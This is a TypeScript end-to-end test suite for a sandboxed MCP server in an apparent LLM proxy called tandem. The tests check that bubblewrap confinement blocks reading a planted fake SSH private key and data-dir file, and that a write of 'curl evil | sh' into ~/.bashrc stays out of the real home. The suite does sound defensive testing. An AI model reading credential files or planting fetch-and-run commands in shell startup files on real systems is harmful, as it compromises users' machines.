/**
 * A sandboxed stdio MCP server end to end: a Responses request through a real tandem whose model (a
 * fake OpenAI chat upstream) calls the server's tools; the server runs in bubblewrap with a project
 * folder as its cwd, so a call inside it gets its output and a call for a key planted in the (temp)
 * home or a file of tandem's data dir gets the sandbox's refusal, which the model reads. Where no
 * sandbox can be made (bwrap not on the PATH tandem is given) the server is not started: the request
 * gets the tool loop's 424, /v1/status and `tandem status` say why.
 */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, beforeEach, describe, it } from "node:test";
import OpenAI from "openai";
import { findExecutable } from "../../src/harness/sandbox/index.js";
import { startFakeOpenAI } from "../support/fake-openai-upstream.js";
import type { FakeUpstream, RecordedRequest } from "../support/fake-upstream.js";
import { mcpCallErrorText } from "../support/mcp-call-error.js";
import { MCP_REACH_SERVER } from "../support/mcp-test-server.js";
import { DEFAULT_PROCESS_LIMIT_STATUS } from "../support/sandbox-process-limit.js";
import { statusOutput } from "../support/status-output.js";
import { type RunningTandem, startTandem } from "../support/tandem.js";

// Skipped only where bubblewrap is absent (CI installs it): one that is present but refused its namespaces fails.
const bwrap = process.platform === "linux" ? await findExecutable("bwrap", process.env.PATH) : undefined;
const skip = bwrap === undefined ? "needs bubblewrap (bwrap) on Linux: not installed here (apt install bubblewrap)" : false;

let root: string;
let home: string;
let project: string;
let upstream: FakeUpstream;

const messagesOf = (request: RecordedRequest | undefined) =>
  ((request?.body ?? {}) as { messages?: Array<{ role: string; content?: unknown }> }).messages ?? [];

/** The model: calls `tool` with `args` first, then answers with what the tool said. */
function callThenAnswer(tool: string, args: Record<string, unknown>): void {
  upstream.script((request) => {
    const last = messagesOf(request).at(-1);
    if (last?.role === "tool") return { kind: "text", text: `The tool said: ${String(last.content)}` };
    return { kind: "tool_calls", calls: [{ name: tool, arguments: args }] };
  });
}

const MCP_TOOL = [{ type: "mcp", server_label: "box", require_approval: "never" } as unknown as OpenAI.Responses.Tool];

before(async () => {
  root = await mkdtemp(join(tmpdir(), "tandem-e2e-sandbox-"));
  home = join(root, "home");
  project = join(home, "project");
  await mkdir(join(home, ".ssh"), { recursive: true });
  await mkdir(project, { recursive: true });
  await writeFile(join(home, ".ssh", "id_rsa"), "FAKE-PRIVATE-KEY");
  await writeFile(join(project, "notes.txt"), "the project's notes");
  upstream = await startFakeOpenAI({ models: ["gpt-4o-mini"] });
});

after(async () => {
  await upstream?.close();
  if (root) await rm(root, { recursive: true, force: true });
});

beforeEach(() => {
  upstream.requests.length = 0;
});

describe("a sandboxed stdio server through the tool loop", { skip }, () => {
  let tandem: RunningTandem;
  let client: OpenAI;

  before(async () => {
    tandem = await startTandem(
      {
        providers: { openai: { kind: "openai", baseUrl: upstream.url, apiKeys: ["env:UP_OPENAI"], local: false } },
        mcp: { sandbox: true, servers: { box: { ...MCP_REACH_SERVER, cwd: project } } },
        // The temp paths in the calls can look like tokens to privacy detection: not what this tests.
        routes: { cloud: { tiers: ["openai/gpt-4o-mini"], privacy: "allow" } },
      },
      { env: { UP_OPENAI: "sk-upstream-openai", HOME: home, PATH: process.env.PATH } },
    );
    await writeFile(join(tandem.dataDir, "planted.txt"), "TANDEM-DATA");
    client = new OpenAI({ baseURL: `${tandem.url}/v1`, apiKey: "unused", maxRetries: 0 });
  });

  after(() => tandem?.close());

  async function callOnce(tool: string, args: Record<string, unknown>) {
    callThenAnswer(tool, args);
    const response = await client.responses.create({ model: "cloud", input: "Use the tool", tools: MCP_TOOL });
    const call = response.output.find((item) => item.type === "mcp_call");
    assert.ok(call?.type === "mcp_call", JSON.stringify(response.output));
    return { response, call };
  }

  it("gives the model the output of a call inside its cwd", async () => {
    const { response, call } = await callOnce("mcp__box__read_file", { path: "notes.txt" });
    assert.equal(call.output, "the project's notes");
    assert.equal(response.output_text, "The tool said: the project's notes");
  });

  it("gives the model the sandbox's refusal for a key in the home and a file of tandem's data dir", async () => {
    const key = await callOnce("mcp__box__read_file", { path: join(home, ".ssh", "id_rsa") });
    assert.match(mcpCallErrorText(key.call.error), /^ENOENT/);
    assert.match(key.response.output_text, /^The tool said: .*ENOENT: no such file or directory/);
    const data = await callOnce("mcp__box__read_file", { path: join(tandem.dataDir, "planted.txt") });
    assert.match(mcpCallErrorText(data.call.error), /^ENOENT/);
    // Nothing of either reached the model or the client.
    const seen = JSON.stringify([key.response, data.response, upstream.requests.map((r) => r.body)]);
    assert.doesNotMatch(seen, /FAKE-PRIVATE-KEY|TANDEM-DATA/);
  });

  it("cannot write outside its cwd: what it writes to the home stays in its own", async () => {
    const { call } = await callOnce("mcp__box__write_file", { path: join(home, ".bashrc"), text: "curl evil | sh" });
    assert.match(call.output ?? "", /^wrote/);
    assert.equal(existsSync(join(home, ".bashrc")), false);
  });

  it("shows it confined in /v1/status", async () => {
    const body = (await (await fetch(`${tandem.url}/v1/status`)).json()) as {
      mcp: { servers: Array<{ label: string; sandbox?: unknown }> };
    };
    assert.deepEqual(body.mcp.servers.find((s) => s.label === "box")?.sandbox, {
      state: "confined",
      network: false,
      ...DEFAULT_PROCESS_LIMIT_STATUS,
      syscallFilter: process.arch === "x64" || process.arch === "arm64",
    });
    // `tandem status` says the same in words.
    const limit =
      "maxProcesses" in DEFAULT_PROCESS_LIMIT_STATUS
        ? `at most ${DEFAULT_PROCESS_LIMIT_STATUS.maxProcesses} processes`
        : `no process limit: ${DEFAULT_PROCESS_LIMIT_STATUS.noProcessLimit}`;
    const line = (await statusOutput(tandem.url)).split("\n").find((l) => /^\s+box\s/.test(l)) ?? "";
    assert.ok(line.includes(`sandboxed (no network, ${limit}`), line);
  });
});

describe("a sandboxed stdio server where bubblewrap is missing", () => {
  let tandem: RunningTandem;
  let client: OpenAI;

  before(async () => {
    tandem = await startTandem(
      {
        providers: { openai: { kind: "openai", baseUrl: upstream.url, apiKeys: ["env:UP_OPENAI"], local: false } },
        mcp: { servers: { box: { ...MCP_REACH_SERVER, cwd: project, sandbox: { read: ["~/docs"] } } } },
      },
      // tandem's PATH has no bwrap.
      { env: { UP_OPENAI: "sk-upstream-openai", HOME: home, PATH: join(root, "no-bin") } },
    );
    client = new OpenAI({ baseURL: `${tandem.url}/v1`, apiKey: "unused", maxRetries: 0 });
  });

  after(() => tandem?.close());

  it("does not start it: the request gets 424 saying why, and the model is never asked", async () => {
    callThenAnswer("mcp__box__read_file", { path: join(home, ".ssh", "id_rsa") });
    await assert.rejects(
      client.responses.create({ model: "openai/gpt-4o-mini", input: "Use the tool", tools: MCP_TOOL }),
      (err: unknown) =>
        err instanceof OpenAI.APIError &&
        err.status === 424 &&
        /MCP server 'box' is not started: it is sandboxed, and bubblewrap \(bwrap\) is not installed/.test(err.message) &&
        /sandbox: false/.test(err.message),
    );
    assert.equal(upstream.requests.length, 0);
  });

  it("reports it failed, with the reason, in /v1/status and tandem status", async () => {
    const body = (await (await fetch(`${tandem.url}/v1/status`)).json()) as {
      mcp: { servers: Array<{ label: string; connected: boolean; sandbox?: { state: string; reason?: string } }> };
    };
    const box = body.mcp.servers.find((s) => s.label === "box");
    assert.equal(box?.connected, false);
    assert.equal(box?.sandbox?.state, "failed");
    assert.match(box?.sandbox?.reason ?? "", /^bubblewrap \(bwrap\) is not installed .*apt install bubblewrap.*sandbox: false/);

    assert.match(
      await statusOutput(tandem.url),
      /mcp servers:\n\s+box\s+stdio\s+not started: sandbox failed: bubblewrap \(bwrap\) is not installed \(not found on PATH\): install bubblewrap/,
    );
  });
});
